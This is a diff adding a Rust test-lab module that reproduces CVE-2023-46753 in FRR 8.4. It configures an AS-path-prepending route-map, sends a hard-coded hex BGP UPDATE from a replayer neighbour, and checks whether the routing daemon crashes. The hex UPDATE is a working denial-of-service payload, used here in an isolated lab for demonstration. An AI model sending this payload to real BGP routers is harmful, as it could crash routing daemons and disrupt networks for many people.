@@ -1,0 +1,59 @@
+//! The demo's last act: a published bug in Debian's own FRR. CVE-2023-46753: FRR 8.4 with a route-map that prepends to the path dies of an
+//! UPDATE that has none. Nobody has patched anything here.
+
+use anyhow::{Context, Result};
+use std::fs;
+use std::time::Duration;
+use tests::lab::{Lab, Star, wait_for};
+use tests::operate;
+use tests::replayer::Replayer;
+use tests::router::Router;
+
+/// The only prefix that FRR's route-map touches.
+const PREFIX: &str = "198.51.100.0/24";
+/// UPDATE: four unknown attributes, none of the mandatory ones, and the prefix.
+const UPDATE: &str = "ffffffffffffffffffffffffffffffff002f0200000014ff1f001000040146464646460004464646464646\
+                      18c63364";
+/// A daemon that dies of it does so at once.
+const PATIENCE: Duration = Duration::from_secs(20);
+
+/// How it went.
+pub struct Outcome {
+    /// The bug showed; else the daemon had to be killed by hand.
+    pub real: bool,
+    /// The neighbour that sent the UPDATE.
+    pub sender: Replayer,
+}
+
+/// Sends the UPDATE from one more neighbour, and waits for FRR's end.
+pub fn act(lab: &Lab, star: &Star, router: &mut Router) -> Result<Outcome> {
+    let site = star.sites.last().context("a star without neighbours")?;
+    let policy = format!(
+        "configure terminal\nip prefix-list PUBLISHED seq 5 permit {PREFIX}\nroute-map IN permit 10\nmatch ip address prefix-list PUBLISHED\n\
+         set as-path prepend 65000\nroute-map IN permit 20\nrouter bgp 65000\naddress-family ipv4 unicast\nneighbor {} route-map IN in",
+        site.v4
+    );
+    let ns = router.ns().clone();
+    operate::control(router.instance("frr")?, &ns, &policy)?;
+    let update: String = UPDATE.split_whitespace().collect();
+    let mut sender = Replayer::dial(lab, site, false, &["--raw", &update])?;
+    sender.wait_event("session-up", PATIENCE)?;
+    let frr = router.instance("frr")?;
+    let real = wait_for("FRR to die of it", PATIENCE, || !frr.running()).is_ok();
+    if real {
+        for line in last_words(&fs::read_to_string(frr.folder().join("frr.log")).unwrap_or_default()) {
+            println!("          frr.log: {line}");
+        }
+    } else {
+        println!(
+            "          this FRR does not die of it any more (Debian has mended it, or another version is installed): it is killed instead"
+        );
+    }
+    frr.crash();
+    Ok(Outcome { real, sender })
+}
+
+/// What FRR wrote as it died, without its stack.
+fn last_words(log: &str) -> impl Iterator<Item = &str> {
+    log.lines().filter(|l| l.contains("Received signal"))
+}
